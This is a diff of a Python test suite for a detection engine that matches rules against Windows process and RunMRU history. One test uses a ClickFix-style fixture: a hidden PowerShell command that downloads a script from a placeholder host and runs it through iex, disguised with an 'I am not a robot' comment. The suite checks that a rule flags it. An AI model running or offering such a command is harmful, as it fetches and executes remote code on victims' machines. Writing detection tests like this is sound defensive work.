@@ -98,7 +98,7 @@ def test_the_runmru_deletion_regression_sample_matches_its_rule_once(store, con,
 
 
 def test_our_pack_catches_a_pasted_powershell_in_the_run_history(store, con):
-    value = 'powershell -w hidden -c "iwr https://cdn.example/v.ps1|iex" # I am not a robot - ID 4471\\1'
+    value = 'powershell -w hidden -c "iwr https://cdn.example/v.ps1|iex" # I am not a robot\\1'
     store("process", [runmru(1, value), runmru(2, "notepad\\1"), runmru(3, "cmd\\1")])
     findings = detect_process_rules(con, store.table("process"), context(load_rules([]).rules))
     assert [(f.kind, f.command_line) for f in findings] == [("clickfix", value)]
@@ -208,7 +208,8 @@ def test_regex_and_fields_found_only_in_the_raw_event(store, con, tmp_path):
 def test_a_broken_rule_is_reported_with_its_file_and_the_rest_still_load(tmp_path):
     broken = tmp_path / "broken.yml"
     broken.write_text(
-        "title: Broken\nlogsource:\n    category: process_creation\ndetection:\n    condition: nothing\n"
+        "title: Broken\nlogsource:\n    category: process_creation\n"
+        "detection:\n    condition: nothing\n"
     )
     write_rule(tmp_path, "fine", "    selection:\n        Image: 'x'\n    condition: selection")
     (tmp_path / "dns.yml").write_text(
